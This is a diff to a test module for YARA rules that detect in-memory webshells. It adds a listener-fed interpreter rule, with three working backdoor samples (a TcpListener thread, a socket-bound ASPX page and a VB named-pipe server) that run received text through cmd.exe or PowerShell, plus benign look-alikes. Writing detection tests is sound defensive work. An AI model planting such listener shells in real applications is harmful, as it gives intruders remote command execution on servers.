@@ -18,7 +18,10 @@ reaches the request) would see it:
   reflection so that its VirtualPathProvider is taken on a precompiled site
   (``EXT_WEBSHELL_Precompiled_Flag_Flip_Path_Provider``).
 
-All three are in ``data/rules/memory_shell_payloads.yar``. What stays silent: a stack trace that names the step
+All three are in ``data/rules/memory_shell_payloads.yar``, with a fourth written after the measurement from the
+collection's HttpListener pages: the same idea with a raw listener - a TcpListener, a bound listening Socket or
+a named pipe server accepted inside w3wp and feeding cmd or PowerShell (``EXT_WEBSHELL_Listener_Fed_Interpreter``);
+probes of that shape in an App_Code class and in a page with a fixed port were silent before it. What stays silent: a stack trace that names the step
 type, framework-like source that declares ``_execSteps``, a module registered the ordinary way, a page that
 lists the application's modules, a remoting service that runs its own batch file, an App_Code class that
 registers an embedded-resource VirtualPathProvider after reading the public ``IsPrecompiledApp``, and a
@@ -33,6 +36,7 @@ from .rule_tables import Page, RuleCase, quiet_pages_test, rule_tables
 _SPLICE = "EXT_WEBSHELL_Pipeline_Step_Splice"
 _REMOTING = "EXT_WEBSHELL_Remoting_Command_Service"
 _FLAGS = "EXT_WEBSHELL_Precompiled_Flag_Flip_Path_Provider"
+_LISTENER = "EXT_WEBSHELL_Listener_Fed_Interpreter"
 
 SPLICE_PAYLOADS: list[Page] = [
     (
@@ -237,10 +241,83 @@ FLAG_ORDINARY: list[Page] = [
     ),
 ]
 
+LISTENER_SHELLS: list[Page] = [
+    (
+        "App_Code/tcp-listener-thread",
+        ".cs",
+        "using System; using System.Diagnostics; using System.IO; using System.Net; using System.Net.Sockets;\n"
+        "public static class Warm\n{\n"
+        "    public static void AppInitialize() { new System.Threading.Thread(Serve) { IsBackground = true }.Start(); }\n"
+        "    static void Serve()\n    {\n"
+        "        var l = new TcpListener(IPAddress.Loopback, 4455); l.Start();\n"
+        "        using (var c = l.AcceptTcpClient())\n        {\n"
+        "            var r = new StreamReader(c.GetStream());\n"
+        '            Process.Start(new ProcessStartInfo("cmd.exe", "/c " + r.ReadLine()) { UseShellExecute = false });\n'
+        "        }\n    }\n}\n",
+    ),
+    (
+        "fixed-port-socket-page",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Net.Sockets" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e)\n{\n"
+        "    var srv = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\n"
+        "    srv.Bind(new System.Net.IPEndPoint(System.Net.IPAddress.Any, 4456)); srv.Listen(1);\n"
+        "    var c = srv.Accept();\n"
+        '    var p = new System.Diagnostics.Process { StartInfo = new System.Diagnostics.ProcessStartInfo("powershell.exe") '
+        "{ UseShellExecute = false, RedirectStandardInput = true } };\n"
+        "    p.Start(); var buf = new byte[512]; int n = c.Receive(buf);\n"
+        "    p.StandardInput.WriteLine(System.Text.Encoding.ASCII.GetString(buf, 0, n));\n}\n</script>\n",
+    ),
+    (
+        "App_Code/named-pipe-console-vb",
+        ".vb",
+        "Imports System.Diagnostics\nImports System.IO\nImports System.IO.Pipes\n"
+        "Public Module PipeHost\n    Public Sub Run()\n"
+        '        Using s As New NamedPipeServerStream("diag")\n'
+        "            s.WaitForConnection()\n"
+        "            Dim r As New StreamReader(s)\n"
+        '            Process.Start(New ProcessStartInfo("cmd", "/c " & r.ReadLine()) With {.UseShellExecute = False})\n'
+        "        End Using\n    End Sub\nEnd Module\n",
+    ),
+]
+
+LISTENER_ORDINARY: list[Page] = [
+    (
+        "App_Code/health-check-listener",
+        ".cs",
+        "using System.Net; using System.Net.Sockets; using System.Text;\n"
+        "public static class Health\n{\n"
+        "    public static void Serve()\n    {\n"
+        "        var l = new TcpListener(IPAddress.Loopback, 9099); l.Start();\n"
+        "        using (var c = l.AcceptTcpClient())\n"
+        '        { var b = Encoding.ASCII.GetBytes("OK"); c.GetStream().Write(b, 0, b.Length); }\n'
+        "    }\n}\n",
+    ),
+    (
+        "App_Code/pipe-runs-own-batch",
+        ".cs",
+        "using System.Diagnostics; using System.IO.Pipes;\n"
+        "public static class Nightly\n{\n"
+        "    public static void Wait()\n    {\n"
+        '        using (var s = new NamedPipeServerStream("nightly")) { s.WaitForConnection(); '
+        'Process.Start(new ProcessStartInfo("cmd.exe", "/c C:\\\\jobs\\\\nightly.bat") { UseShellExecute = false }); }\n'
+        "    }\n}\n",
+    ),
+    (
+        "command-page-without-listener",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%\n'
+        'var i = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c ping -n 1 " + '
+        'System.Net.IPAddress.Parse(Request["host"]).ToString()) { UseShellExecute = false, RedirectStandardOutput = true };\n'
+        "Response.Write(System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd());\n%>\n",
+    ),
+]
+
 CASES: list[RuleCase] = [
     (_SPLICE, SPLICE_PAYLOADS, SPLICE_ORDINARY),
     (_REMOTING, REMOTING_PAYLOADS, REMOTING_ORDINARY),
     (_FLAGS, FLAG_PAYLOADS, FLAG_ORDINARY),
+    (_LISTENER, LISTENER_SHELLS, LISTENER_ORDINARY),
 ]
 
 (
@@ -255,6 +332,7 @@ QUIET_TWINS: list[Page] = [
     REMOTING_ORDINARY[0],
     SPLICE_ORDINARY[0],
     SPLICE_ORDINARY[2],
+    LISTENER_ORDINARY[0],
     (
         "Global",
         ".asax",
